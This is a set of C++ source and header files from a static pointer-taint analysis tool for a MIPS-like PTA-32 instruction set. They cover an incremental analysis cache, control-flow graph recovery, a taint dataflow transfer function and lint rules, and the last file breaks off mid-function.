  for (uint32_t w : program.text) f.mix(w);
  // Label placement shapes the recovered CFG (leaders, indirect-jump
  // fanout, function attribution); names never reach the analyses.
  f.mix(program.text_labels.size());
  for (const auto& [pc, name] : program.text_labels) f.mix(pc);
  f.mix(program.function_labels.size());
  for (const auto& [pc, name] : program.function_labels) f.mix(pc);
  return f.h;
}

/// Per-function chained content hashes over the call graph's SCC
/// condensation (iterative Tarjan), bottom-up: each function's hash folds
/// in the hashes of everything its facts depend on, so comparing one
/// number per function decides the full transitive dirty set.
std::vector<std::pair<uint32_t, uint64_t>> function_hashes(
    const Cfg& cfg, const asmgen::Program& program) {
  const auto& fns = cfg.functions();
  const auto& blocks = cfg.blocks();
  const size_t n = fns.size();

  // Global label fingerprint: a moved or added label changes block
  // structure and `jr` fanout program-wide, so it dirties every function.
  Fnv label_fp;
  for (const auto& [pc, name] : program.text_labels) label_fp.mix(pc);
  for (const auto& [pc, name] : program.function_labels) label_fp.mix(pc);

  // Orphan text (before the first function entry) has no hash owner; its
  // flows can reach anything, so fold its words into the fingerprint too.
  for (const BasicBlock& bb : blocks) {
    if (bb.function >= 0) continue;
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      label_fp.mix(program.text[cfg.index_of(pc)]);
    }
  }

  std::vector<uint64_t> local(n);
  for (size_t i = 0; i < n; ++i) {
    Fnv f;
    f.mix(kSchemaSalt);
    f.mix(label_fp.h);
    f.mix(fns[i].entry);
    f.mix(fns[i].end);
    for (uint32_t pc = fns[i].entry; pc < fns[i].end; pc += 4) {
      f.mix(program.text[cfg.index_of(pc)]);
    }
    // Caller fingerprint: a new call into this function adds a return
    // edge (gen-1) and an entry-state contributor (VSA); both change the
    // flows the function participates in even though its text did not.
    f.mix(fns[i].return_sites.size());
    for (uint32_t site : fns[i].return_sites) f.mix(site);
    local[i] = f.h;
  }

  // Dependency edges: F -> G when F's facts depend on G.  Callees
  // (summaries and exit states compose upward) plus any function that
  // flows into F over an ordinary cross-function edge.
  std::vector<std::set<int>> deps(n);
  for (size_t i = 0; i < n; ++i) {
    for (int callee : fns[i].callees) deps[i].insert(callee);
  }
  for (const BasicBlock& bb : blocks) {
    if (bb.function < 0) continue;
    for (int succ : bb.succs) {
      const int sf = blocks[static_cast<size_t>(succ)].function;
      if (sf >= 0 && sf != bb.function) deps[static_cast<size_t>(sf)].insert(bb.function);
    }
  }

  // Iterative Tarjan.  SCCs pop after every SCC they depend on, so the
  // chained hash of each dependency is final when its dependents fold it.
  std::vector<uint64_t> chained(n, 0);
  std::vector<int> index(n, -1);
  std::vector<int> low(n, 0);
  std::vector<uint8_t> on_stack(n, 0);
  std::vector<int> stack;
  std::vector<int> scc_of(n, -1);
  std::vector<uint64_t> scc_hash;
  int next_index = 0;

  struct Frame {
    int v;
    std::set<int>::const_iterator it;
  };
  std::vector<Frame> call;
  for (size_t root = 0; root < n; ++root) {
    if (index[root] >= 0) continue;
    call.push_back({static_cast<int>(root), deps[root].begin()});
    index[root] = low[root] = next_index++;
    stack.push_back(static_cast<int>(root));
    on_stack[root] = 1;
    while (!call.empty()) {
      Frame& fr = call.back();
      const auto v = static_cast<size_t>(fr.v);
      if (fr.it != deps[v].end()) {
        const int w = *fr.it++;
        const auto uw = static_cast<size_t>(w);
        if (index[uw] < 0) {
          index[uw] = low[uw] = next_index++;
          stack.push_back(w);
          on_stack[uw] = 1;
          call.push_back({w, deps[uw].begin()});
        } else if (on_stack[uw] != 0) {
          low[v] = std::min(low[v], index[uw]);
        }
        continue;
      }
      if (low[v] == index[v]) {
        // Pop the SCC and hash it: members' local hashes (sorted — the
        // pop order inside a cycle is traversal-dependent) plus the
        // chained hashes of every dependency SCC.
        std::vector<int> members;
        for (;;) {
          const int w = stack.back();
          stack.pop_back();
          on_stack[static_cast<size_t>(w)] = 0;
          scc_of[static_cast<size_t>(w)] = static_cast<int>(scc_hash.size());
          members.push_back(w);
          if (w == fr.v) break;
        }
        std::vector<uint64_t> locals;
        std::set<uint64_t> dep_hashes;
        locals.reserve(members.size());
        for (int m : members) {
          const auto um = static_cast<size_t>(m);
          locals.push_back(local[um]);
          for (int d : deps[um]) {
            const int ds = scc_of[static_cast<size_t>(d)];
            if (ds != scc_of[um]) {
              dep_hashes.insert(scc_hash[static_cast<size_t>(ds)]);
            }
          }
        }
        std::sort(locals.begin(), locals.end());
        Fnv f;
        f.mix(locals.size());
        for (uint64_t h : locals) f.mix(h);
        for (uint64_t h : dep_hashes) f.mix(h);
        scc_hash.push_back(f.h);
        for (int m : members) chained[static_cast<size_t>(m)] = f.h;
      }
      const int parent_low = low[v];
      call.pop_back();
      if (!call.empty()) {
        const auto pv = static_cast<size_t>(call.back().v);
        low[pv] = std::min(low[pv], parent_low);
      }
    }
  }

  std::vector<std::pair<uint32_t, uint64_t>> out;
  out.reserve(n);
  for (size_t i = 0; i < n; ++i) out.emplace_back(fns[i].entry, chained[i]);
  std::sort(out.begin(), out.end());
  return out;
}

// ---- analysis drivers ------------------------------------------------------

std::vector<uint8_t> block_leaders_of(const Cfg& cfg,
                                      const asmgen::Program& program) {
  std::vector<uint8_t> leaders(program.text.size(), 0);
  for (const BasicBlock& block : cfg.blocks()) {
    const size_t i = (block.begin - cfg.text_begin()) / 4;
    if (i < leaders.size()) leaders[i] = 1;
  }
  return leaders;
}

std::shared_ptr<CachedAnalysis> analyze_cold(const asmgen::Program& program,
                                             const Cfg& cfg,
                                             const cpu::TaintPolicy& policy,
                                             const VsaOptions& options,
                                             int jobs) {
  auto out = std::make_shared<CachedAnalysis>();
  TaintRun g1 = analyze_taint_run(cfg, policy);
  VsaRun g2 = analyze_vsa_run(cfg, policy, options, jobs);
  out->g1 = std::move(g1.analysis);
  out->g2 = std::move(g2.analysis);
  out->g1_fp = std::move(g1.fixpoint);
  out->g2_fp = std::move(g2.fixpoint);
  out->gen2 = gen2_union(cfg, out->g1, out->g2);
  out->block_leaders = block_leaders_of(cfg, program);
  out->fn_hashes = function_hashes(cfg, program);
  return out;
}

// ---- cache proper ----------------------------------------------------------

struct Key {
  uint64_t content = 0;
  uint64_t policy = 0;
  bool operator<(const Key& o) const {
    return content != o.content ? content < o.content : policy < o.policy;
  }
  bool operator==(const Key& o) const {
    return content == o.content && policy == o.policy;
  }
};

size_t env_capacity() {
  const char* v = std::getenv("PTAINT_ANALYSIS_CACHE_CAP");
  if (v == nullptr || *v == '\0') return 32;
  const long n = std::strtol(v, nullptr, 10);
  return n > 0 ? static_cast<size_t>(n) : 32;
}

int env_jobs() {
  const char* v = std::getenv("PTAINT_ANALYSIS_JOBS");
  if (v == nullptr || *v == '\0') return 1;
  const long n = std::strtol(v, nullptr, 10);
  return n > 0 ? static_cast<int>(n) : 1;
}

}  // namespace

std::string CacheStats::json(bool include_timing) const {
  std::string s = "{";
  auto add = [&s](const char* name, uint64_t v) {
    if (s.size() > 1) s += ",";
    s += "\"";
    s += name;
    s += "\":";
    s += std::to_string(v);
  };
  add("lookups", lookups);
  add("hits", hits);
  add("cold_misses", cold_misses);
  add("warm_hits", warm_hits);
  add("warm_fallbacks", warm_fallbacks);
  add("invalidated_fns", invalidated_fns);
  add("evictions", evictions);
  if (include_timing) add("analysis_micros", analysis_micros);
  add("entries", entries);
  s += "}";
  return s;
}

struct SummaryCache::Impl {
  mutable std::mutex mu;
  std::condition_variable cv;
  // MRU-first key list; map holds list iterators for O(log n) touch.
  std::list<Key> lru;
  struct Entry {
    std::shared_ptr<const CachedAnalysis> result;
    std::list<Key>::iterator pos;
  };
  std::map<Key, Entry> entries;
  std::set<Key> in_flight;
  CacheStats stats;
  size_t capacity = env_capacity();
  int jobs = env_jobs();
};

SummaryCache::SummaryCache() : impl_(std::make_shared<Impl>()) {}

SummaryCache& SummaryCache::instance() {
  static SummaryCache cache;
  return cache;
}

bool SummaryCache::enabled() {
  const char* v = std::getenv("PTAINT_ANALYSIS_CACHE");
  return v == nullptr || std::string(v) != "0";
}

CacheStats SummaryCache::stats() const {
  std::lock_guard<std::mutex> lk(impl_->mu);
  CacheStats s = impl_->stats;
  s.entries = impl_->entries.size();
  return s;
}

void SummaryCache::clear() {
  std::lock_guard<std::mutex> lk(impl_->mu);
  impl_->entries.clear();
  impl_->lru.clear();
  impl_->stats = CacheStats{};
}

void SummaryCache::set_capacity(size_t cap) {
  std::lock_guard<std::mutex> lk(impl_->mu);
  impl_->capacity = cap > 0 ? cap : 1;
}

void SummaryCache::set_jobs(int jobs) {
  std::lock_guard<std::mutex> lk(impl_->mu);
  impl_->jobs = jobs > 0 ? jobs : 1;
}

int SummaryCache::jobs() const {
  std::lock_guard<std::mutex> lk(impl_->mu);
  return impl_->jobs;
}

std::shared_ptr<const CachedAnalysis> SummaryCache::analyze(
    const asmgen::Program& program, const cpu::TaintPolicy& policy,
    const VsaOptions& options) {
  Impl& im = *impl_;
  const Key key{program_hash(program), policy_hash(policy, options)};

  std::shared_ptr<const CachedAnalysis> base;  // warm candidate
  int jobs = 1;
  if (enabled()) {
    std::unique_lock<std::mutex> lk(im.mu);
    ++im.stats.lookups;
    for (;;) {
      auto it = im.entries.find(key);
      if (it != im.entries.end()) {
        ++im.stats.hits;
        im.lru.splice(im.lru.begin(), im.lru, it->second.pos);
        return it->second.result;
      }
      if (im.in_flight.count(key) == 0) break;
      // Another thread is analyzing this exact key; one analysis serves
      // both.  (Re-counts as a hit when it lands.)
      im.cv.wait(lk);
    }
    im.in_flight.insert(key);
    jobs = im.jobs;
    // Warm base: the most recently used entry under the same policy
    // column — campaign variants arrive in bursts per policy.
    for (const Key& k : im.lru) {
      if (k.policy == key.policy) {
        base = im.entries.find(k)->second.result;
        break;
      }
    }
  } else {
    std::lock_guard<std::mutex> lk(im.mu);
    ++im.stats.lookups;
    jobs = im.jobs;
  }

  const auto t0 = std::chrono::steady_clock::now();
  const Cfg cfg(program);
  std::shared_ptr<CachedAnalysis> result;
  bool warm = false;
  size_t dirty_count = 0;

  if (base != nullptr) {
    // Diff chained hashes by entry PC; unmatched functions are dirty.
    // Both sides are ascending by entry (cfg functions are sorted), so the
    // new program's f-th function is fn_hashes[f].
    const auto& fns = cfg.functions();
    const auto fn_hashes = function_hashes(cfg, program);
    std::vector<uint8_t> dirty(fns.size(), 1);
    for (size_t f = 0; f < fns.size(); ++f) {
      auto it = std::lower_bound(
          base->fn_hashes.begin(), base->fn_hashes.end(),
          std::pair<uint32_t, uint64_t>{fns[f].entry, 0},
          [](const auto& a, const auto& b) { return a.first < b.first; });
      if (it != base->fn_hashes.end() && it->first == fns[f].entry &&
          it->second == fn_hashes[f].second) {
        dirty[f] = 0;
      } else {
        ++dirty_count;
      }
    }
    if (dirty_count > 0 && dirty_count < fns.size()) {
      std::optional<TaintRun> g1 =
          analyze_taint_warm(cfg, policy, *base->g1_fp, dirty, &base->g1);
      std::optional<VsaRun> g2 =
          g1.has_value() ? analyze_vsa_warm(cfg, policy, options,
                                            *base->g2_fp, dirty, &base->g2)
                         : std::nullopt;
      if (g1.has_value() && g2.has_value()) {
        result = std::make_shared<CachedAnalysis>();
        result->g1 = std::move(g1->analysis);
        result->g2 = std::move(g2->analysis);
        result->g1_fp = std::move(g1->fixpoint);
        result->g2_fp = std::move(g2->fixpoint);
        result->gen2 = gen2_union(cfg, result->g1, result->g2);
        result->block_leaders = block_leaders_of(cfg, program);
        result->fn_hashes = fn_hashes;
        warm = true;
      }
    } else {
      base = nullptr;  // all dirty (or none): nothing incremental to do
    }
  }
  if (result == nullptr) {
    result = analyze_cold(program, cfg, policy, options, jobs);
  }
  const auto micros = std::chrono::duration_cast<std::chrono::microseconds>(
                          std::chrono::steady_clock::now() - t0)
                          .count();

  if (!enabled()) {
    std::lock_guard<std::mutex> lk(im.mu);
    ++im.stats.cold_misses;
    im.stats.analysis_micros += static_cast<uint64_t>(micros);
    return result;
  }

  std::lock_guard<std::mutex> lk(im.mu);
  im.stats.analysis_micros += static_cast<uint64_t>(micros);
  if (warm) {
    ++im.stats.warm_hits;
  } else if (base != nullptr) {
    ++im.stats.warm_fallbacks;
  } else {
    ++im.stats.cold_misses;
  }
  im.stats.invalidated_fns += dirty_count;
  im.in_flight.erase(key);
  auto [it, fresh] = im.entries.emplace(key, Impl::Entry{});
  if (fresh) {
    im.lru.push_front(key);
    it->second.pos = im.lru.begin();
  }
  it->second.result = result;
  while (im.entries.size() > im.capacity) {
    const Key victim = im.lru.back();
    im.lru.pop_back();
    im.entries.erase(victim);
    ++im.stats.evictions;
  }
  im.cv.notify_all();
  return result;
}

}  // namespace ptaint::analysis
