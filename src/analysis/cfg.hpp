// Control-flow graph recovery for assembled PTA-32 programs.
//
// Lifts an asmgen::Program text segment into basic blocks, functions and a
// call graph, ready for the dataflow pass (taint_analyzer) and the linter.
//
// Block leaders: the program entry, every function label, every branch /
// jump target, and every instruction following a terminator.  Terminators
// and their successor resolution:
//
//   beq/bne/b..     two edges (target, fallthrough)
//   j               one edge (target)
//   jal             call edge to the callee entry; the instruction after
//                   the jal is registered as a *return site* of the callee
//   jr $ra          function return: edges to every recorded return site
//                   of the enclosing function (the $ra convention)
//   jr $other       unresolved indirect jump: edges to every labeled block
//                   (jump tables target labels) — conservative
//   jalr            unresolved indirect call: call edges to every known
//                   function entry, return flowing back to the site
//   break, invalid  no successors
//   syscall         fallthrough (SYS_EXIT simply never returns)
//
// Functions are the program entry plus every `function_label` the
// assembler identified (jal targets, _start, main); each text address
// belongs to the nearest preceding function entry.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "asmgen/assembler.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {

struct BasicBlock {
  uint32_t begin = 0;  // first instruction PC
  uint32_t end = 0;    // one past the last instruction PC
  int function = -1;   // index into Cfg::functions

  std::vector<int> succs;       // intra-procedural + return-resolved edges
  std::vector<int> call_succs;  // callee entry blocks (jal/jalr)
  bool returns = false;         // ends in `jr $ra`
  bool indirect_jump = false;   // ends in `jr $other` (not $ra)

  size_t size() const { return (end - begin) / 4; }
};

struct Function {
  std::string name;
  uint32_t entry = 0;
  uint32_t end = 0;                    // one past the last owned PC
  std::vector<int> blocks;             // block indices, ascending by PC
  std::vector<uint32_t> return_sites;  // PCs following calls to this function
  std::vector<int> callees;            // function indices called (jal only)
};

class Cfg {
 public:
  explicit Cfg(const asmgen::Program& program);
  // The Cfg borrows `program` for its whole lifetime; a temporary would
  // leave program() dangling as soon as the full expression ends.
  explicit Cfg(asmgen::Program&&) = delete;

  const asmgen::Program& program() const { return *program_; }
  const std::vector<isa::Instruction>& instructions() const { return insts_; }
  const std::vector<BasicBlock>& blocks() const { return blocks_; }
  const std::vector<Function>& functions() const { return functions_; }

  /// Instruction at `pc`; pc must lie inside the text segment.
  const isa::Instruction& inst_at(uint32_t pc) const {
    return insts_[index_of(pc)];
  }
  /// Block containing `pc`, or -1 when pc is outside the text segment.
  int block_at(uint32_t pc) const;
  /// Function containing `pc`, or -1.
  int function_at(uint32_t pc) const;

  uint32_t text_begin() const { return text_begin_; }
  uint32_t text_end() const { return text_end_; }
  bool in_text(uint32_t pc) const {
    return pc >= text_begin_ && pc < text_end_;
  }
  size_t index_of(uint32_t pc) const { return (pc - text_begin_) / 4; }

  /// Block indices reachable from the program entry, following both
  /// ordinary and call edges (used by the analyzer and the
  /// unreachable-block lint).
  std::vector<bool> reachable_blocks() const;

 private:
  void decode();
  void find_leaders();
  void build_blocks();
  void wire_edges();

  const asmgen::Program* program_;
  uint32_t text_begin_ = 0;
  uint32_t text_end_ = 0;
  std::vector<isa::Instruction> insts_;
  std::vector<bool> leader_;
  std::vector<BasicBlock> blocks_;
  std::vector<int> block_of_;  // per instruction index
  std::vector<Function> functions_;
  std::map<uint32_t, int> function_by_entry_;
};

}  // namespace ptaint::analysis
