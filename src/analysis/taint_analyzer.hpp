// Static pointer-taintedness analysis (the ahead-of-time mirror of the
// dynamic detector in src/cpu).
//
// An interprocedural, flow-sensitive, context-insensitive forward dataflow
// over the Cfg supergraph.  The abstract state is a RegState (lattice.hpp);
// the transfer function mirrors the Table 1 propagation rules and their
// four special cases exactly as the TaintPolicy configures them, with these
// memory-model abstractions:
//
//   * every load produces MaybeTainted — memory is summarized as possibly
//     tainted, since SYS_READ / SYS_RECV / argv bytes land there and flow
//     arbitrarily through stores (this is what keeps the analysis sound
//     without a points-to analysis);
//   * syscalls write only an untainted result into $v0 (mirrors SimOs);
//   * TAINTSET is a taint source; TAINTCLR and LUI produce Untainted.
//
// Outputs, per dereference site (every load, store, JR and JALR):
//   * `may_taint`  — the joined abstract taint of the address register over
//     every CFG path reaching the site.  Sites with Untainted are *proven
//     clean*: the dynamic detector can never fire there, so the interpreter
//     may elide the check (see docs/ANALYSIS.md for the soundness
//     argument and its recovered-CFG caveat).
//   * Sites that may be tainted form the static alert-site report that
//     `ptaint-campaign --static-check` diffs against dynamic alerts.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "analysis/cfg.hpp"
#include "analysis/lattice.hpp"
#include "cpu/taint_policy.hpp"

namespace ptaint::analysis {

/// One dereference site in the text segment.
struct DerefSite {
  uint32_t pc = 0;
  isa::Instruction inst;
  uint8_t addr_reg = 0;        // register dereferenced as pointer/target
  Taint may_taint = Taint::kUntainted;
  bool is_jump = false;        // JR/JALR (control transfer) vs load/store
  bool reachable = false;      // site lies on a CFG path from the entry
};

struct TaintAnalysis {
  std::vector<DerefSite> sites;  // ascending by PC

  /// Per-instruction elision bitmap over the text segment: byte i covers
  /// kTextBase + 4*i; 1 = the dereference check at that PC is proven
  /// unnecessary.  Non-dereference instructions are 0 (no check to elide).
  std::vector<uint8_t> elision;

  size_t possible_sites = 0;  // sites with may_be_tainted(may_taint)
  size_t proven_clean = 0;    // sites eligible for elision

  /// True when the dynamic alert at `pc` was statically predicted, i.e.
  /// `pc` is a dereference site with may_be_tainted().  The soundness
  /// cross-check of ptaint-campaign --static-check.
  bool predicts_alert(uint32_t pc) const;

  const DerefSite* site_at(uint32_t pc) const;

  /// Human-readable report of statically-possible tainted dereference
  /// sites, one line per site ("pc: disasm  [$reg]  in function").
  std::string report(const Cfg& cfg) const;
};

/// Runs the analysis.  `policy` selects which Table 1 special cases the
/// *dynamic* machine will apply — the static transfer function must mirror
/// them (an untaint rule the interpreter does not apply must not be assumed
/// statically, and vice versa).
TaintAnalysis analyze_taint(const Cfg& cfg, const cpu::TaintPolicy& policy);

/// Convenience: build the Cfg and analyze in one step.
TaintAnalysis analyze_taint(const asmgen::Program& program,
                            const cpu::TaintPolicy& policy);

// ---- incremental re-analysis -----------------------------------------------
//
// The summary cache (summary_cache.hpp) retains the converged fixpoint of a
// cold run so that, after a small mutation of the guest, only the changed
// functions and their transitive callers need re-iteration.  The record
// stores per-block in/out states keyed by block begin PC (indices shift when
// a mutated function changes shape) so the warm path can
//
//   1. preload every *clean* block's converged in-state,
//   2. seed the dirty region from the recorded out-states of its clean
//      predecessors, iterate only dirty blocks, and
//   3. verify afterwards that the dirty region's joined contribution into
//      every clean block equals the recorded one (join-equality per clean
//      successor — joins are not subtractable, so per-edge old==new is the
//      sufficient condition for whole-result identity).
//
// Any doubt — a clean in-state that would change during iteration, a shape
// mismatch, a contribution mismatch — returns nullopt and the caller falls
// back to a cold run, so a warm result is always byte-identical to cold.
struct TaintFixpoint {
  std::vector<RegState> in_state;   // converged per-block in-states
  std::vector<RegState> out_state;  // post-transfer states (reached only)
  std::vector<bool> has_in;         // block ever reached
  std::vector<uint32_t> block_begin;
  std::vector<uint32_t> block_end;
  // Flow targets (ordinary successors and call successors — gen-1 flows the
  // same out-state to both) as target block begin PCs.
  std::vector<std::vector<uint32_t>> succ_pcs;
  // Function spans [entry, end) of the analyzed program, ascending.
  std::vector<std::pair<uint32_t, uint32_t>> fn_spans;
};

struct TaintRun {
  TaintAnalysis analysis;
  std::shared_ptr<const TaintFixpoint> fixpoint;
};

/// Cold run that also builds the fixpoint record for later warm runs.
/// Identical analysis output to analyze_taint().
TaintRun analyze_taint_run(const Cfg& cfg, const cpu::TaintPolicy& policy);

/// Warm re-analysis against `base` (a prior converged run under the *same*
/// policy).  `dirty_fns[f]` marks new-Cfg functions whose text or calling
/// context changed (content-hash difference, including transitive callers).
/// Returns nullopt when identity with a cold run cannot be proven; the
/// result, when present, is byte-identical to analyze_taint_run().
/// `base_analysis` (the analysis the record was built with) enables
/// incremental result collection: clean-block site verdicts are copied
/// from it instead of replayed — same output, less work.
std::optional<TaintRun> analyze_taint_warm(
    const Cfg& cfg, const cpu::TaintPolicy& policy, const TaintFixpoint& base,
    const std::vector<uint8_t>& dirty_fns,
    const TaintAnalysis* base_analysis = nullptr);

}  // namespace ptaint::analysis
