// Register read/write effects of one instruction over the 34-register
// analysis domain (32 GPRs + HI + LO).  Shared by the lint passes, the
// stack-height dataflow, and the value-set prover; previously private to
// lint.cpp.
#pragma once

#include "analysis/lattice.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {

struct Effects {
  int reads[3] = {-1, -1, -1};
  int writes[2] = {-1, -1};
};

inline Effects effects_of(const isa::Instruction& inst) {
  using isa::Op;
  constexpr int kHi = RegState::kHi;
  constexpr int kLo = RegState::kLo;
  Effects e;
  auto r = [&](int a, int b = -1, int c = -1) {
    e.reads[0] = a; e.reads[1] = b; e.reads[2] = c;
  };
  auto w = [&](int a, int b = -1) { e.writes[0] = a; e.writes[1] = b; };
  switch (inst.op) {
    case Op::kSll: case Op::kSrl: case Op::kSra:
      r(inst.rt); w(inst.rd); break;
    case Op::kSllv: case Op::kSrlv: case Op::kSrav:
      r(inst.rt, inst.rs); w(inst.rd); break;
    case Op::kAdd: case Op::kAddu: case Op::kSub: case Op::kSubu:
    case Op::kAnd: case Op::kOr: case Op::kXor: case Op::kNor:
    case Op::kSlt: case Op::kSltu:
      r(inst.rs, inst.rt); w(inst.rd); break;
    case Op::kMult: case Op::kMultu: case Op::kDiv: case Op::kDivu:
      r(inst.rs, inst.rt); w(kHi, kLo); break;
    case Op::kMfhi: r(kHi); w(inst.rd); break;
    case Op::kMflo: r(kLo); w(inst.rd); break;
    case Op::kMthi: r(inst.rs); w(kHi); break;
    case Op::kMtlo: r(inst.rs); w(kLo); break;
    case Op::kTaintSet: case Op::kTaintClr:
      r(inst.rs); w(inst.rd); break;
    case Op::kAddi: case Op::kAddiu: case Op::kAndi: case Op::kOri:
    case Op::kXori: case Op::kSlti: case Op::kSltiu:
      r(inst.rs); w(inst.rt); break;
    case Op::kLui: w(inst.rt); break;
    case Op::kLb: case Op::kLh: case Op::kLw: case Op::kLbu: case Op::kLhu:
      r(inst.rs); w(inst.rt); break;
    case Op::kSb: case Op::kSh: case Op::kSw:
      r(inst.rs, inst.rt); break;
    case Op::kBeq: case Op::kBne:
      r(inst.rs, inst.rt); break;
    case Op::kBlez: case Op::kBgtz: case Op::kBltz: case Op::kBgez:
      r(inst.rs); break;
    case Op::kBltzal: case Op::kBgezal:
      r(inst.rs); w(isa::kRa); break;
    case Op::kJ: break;
    case Op::kJal: w(isa::kRa); break;
    case Op::kJr: r(inst.rs); break;
    case Op::kJalr: r(inst.rs); w(inst.rd); break;
    case Op::kSyscall: r(isa::kV0); w(isa::kV0); break;
    case Op::kBreak: case Op::kInvalid: break;
  }
  return e;
}

inline bool writes_reg(const isa::Instruction& inst, int reg) {
  const Effects e = effects_of(inst);
  return e.writes[0] == reg || e.writes[1] == reg;
}

inline bool is_call(const isa::Instruction& inst) {
  using isa::Op;
  return inst.op == Op::kJal || inst.op == Op::kJalr ||
         inst.op == Op::kBltzal || inst.op == Op::kBgezal;
}

inline bool is_nop(const isa::Instruction& inst) {
  return inst.op == isa::Op::kSll && inst.rd == 0 && inst.rt == 0 &&
         inst.shamt == 0;
}

}  // namespace ptaint::analysis
