// Classic static lints over the recovered Cfg, surfaced by ptaint-lint.
//
// Four rules:
//   * use-before-def      — a register read on some path before any
//                           definition (per-function must-defined dataflow;
//                           $sp/$gp/$fp/$ra/args/s-regs count as live-in)
//   * unreachable-block   — a basic block no CFG path from the entry
//                           reaches (alignment nop padding is exempt)
//   * stack-imbalance     — $sp not restored to its entry value at a
//                           `jr $ra` (constant-delta tracking)
//   * clobbered-callee-saved — an s-register or $fp written inside a
//                           returning function that never spills it
//   * analysis-opaque     — info-level: a computed jump or indirect call
//                           the recovered CFG can only over-approximate
//                           (fanout to every labeled block / every function
//                           entry), i.e. where static summary precision
//                           degrades.  Informational: never fails the lint.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/cfg.hpp"

namespace ptaint::analysis {

enum class LintKind {
  kUseBeforeDef,
  kUnreachableBlock,
  kStackImbalance,
  kClobberedCalleeSaved,
  kAnalysisOpaque,
};

const char* to_string(LintKind kind);

/// Info-level findings are advisory (they flag analysis precision cliffs,
/// not program bugs) and do not count toward ptaint-lint's exit status.
bool lint_is_info(LintKind kind);

struct LintFinding {
  LintKind kind;
  uint32_t pc = 0;        // site of the finding
  std::string function;   // enclosing function name ("?" when unknown)
  std::string message;
};

/// Runs every lint rule; findings come back sorted by PC.
std::vector<LintFinding> run_lints(const Cfg& cfg);

/// One line per finding: "<pc>: <kind>: <message> [in <function>]".
std::string format_findings(const std::vector<LintFinding>& findings);

}  // namespace ptaint::analysis
