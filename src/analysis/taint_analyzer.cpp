#include "analysis/taint_analyzer.hpp"

#include <algorithm>
#include <cstdio>
#include <deque>

#include "isa/isa.hpp"

namespace ptaint::analysis {

using isa::Instruction;
using isa::Op;
using isa::OpClass;

const char* to_string(Taint t) {
  switch (t) {
    case Taint::kUntainted: return "untainted";
    case Taint::kMaybeTainted: return "maybe-tainted";
    case Taint::kTop: return "top";
  }
  return "?";
}

namespace {

/// Applies one instruction's Table 1 transfer to `s`, mirroring the
/// dynamic TaintUnit under `policy`.  Dereference recording happens in the
/// caller (it needs the pre-transfer state of the address register).
void transfer(const Instruction& inst, const cpu::TaintPolicy& policy,
              RegState& s) {
  const auto rs = [&] { return s.get(inst.rs); };
  const auto rt = [&] { return s.get(inst.rt); };
  switch (inst.op) {
    // Shift-immediate: taint smears between bytes but stays in the word.
    case Op::kSll:
    case Op::kSrl:
    case Op::kSra:
      s.set(inst.rd, rt());
      break;
    // Variable shifts: a tainted amount taints the whole result.
    case Op::kSllv:
    case Op::kSrlv:
    case Op::kSrav:
      s.set(inst.rd, join(rt(), rs()));
      break;

    case Op::kAdd: case Op::kAddu: case Op::kSub: case Op::kSubu:
    case Op::kOr: case Op::kNor:
      s.set(inst.rd, join(rs(), rt()));
      break;

    case Op::kAnd:
      // AND-zero rule: $zero is the only statically-certain zero byte
      // source; the value-dependent byte cases stay conservative.
      if (policy.and_zero_untaints &&
          (inst.rs == isa::kZero || inst.rt == isa::kZero)) {
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;
    case Op::kXor:
      // XOR r,r,r zeroing idiom.
      if (policy.xor_self_untaints && inst.rs == inst.rt) {
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;

    // Compare family: validated data is trusted afterwards (when the
    // policy applies the rule; the ablation variants must not assume it).
    case Op::kSlt:
    case Op::kSltu:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;
    case Op::kSlti:
    case Op::kSltiu:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
      } else {
        s.set(inst.rt, rs());
      }
      break;

    case Op::kMult: case Op::kMultu: case Op::kDiv: case Op::kDivu: {
      const Taint t = join(rs(), rt());
      s.set(RegState::kHi, t);
      s.set(RegState::kLo, t);
      break;
    }
    case Op::kMfhi: s.set(inst.rd, s.get(RegState::kHi)); break;
    case Op::kMflo: s.set(inst.rd, s.get(RegState::kLo)); break;
    case Op::kMthi: s.set(RegState::kHi, rs()); break;
    case Op::kMtlo: s.set(RegState::kLo, rs()); break;

    case Op::kTaintSet: s.set(inst.rd, Taint::kMaybeTainted); break;
    case Op::kTaintClr: s.set(inst.rd, Taint::kUntainted); break;

    case Op::kAddi: case Op::kAddiu: case Op::kOri: case Op::kXori:
      s.set(inst.rt, rs());
      break;
    case Op::kAndi:
      if (policy.and_zero_untaints && (inst.imm & 0xffff) == 0) {
        s.set(inst.rt, Taint::kUntainted);
      } else {
        s.set(inst.rt, rs());
      }
      break;
    case Op::kLui:
      s.set(inst.rt, Taint::kUntainted);
      break;

    // Loads: memory is summarized as possibly tainted.
    case Op::kLb: case Op::kLh: case Op::kLw: case Op::kLbu: case Op::kLhu:
      s.set(inst.rt, Taint::kMaybeTainted);
      break;
    case Op::kSb: case Op::kSh: case Op::kSw:
      break;  // no register effect

    // Branches compare data against bounds (Table 1 compare rule).
    case Op::kBeq: case Op::kBne:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
      }
      break;
    case Op::kBlez: case Op::kBgtz: case Op::kBltz: case Op::kBgez:
      if (policy.compare_untaints) s.set(inst.rs, Taint::kUntainted);
      break;
    case Op::kBltzal: case Op::kBgezal:
      if (policy.compare_untaints) s.set(inst.rs, Taint::kUntainted);
      s.set(isa::kRa, Taint::kUntainted);
      break;

    case Op::kJ:
      break;
    case Op::kJal:
      s.set(isa::kRa, Taint::kUntainted);
      break;
    case Op::kJr:
      break;
    case Op::kJalr:
      s.set(inst.rd, Taint::kUntainted);
      break;

    case Op::kSyscall:
      // SimOs writes only the (kernel-produced, untainted) result register.
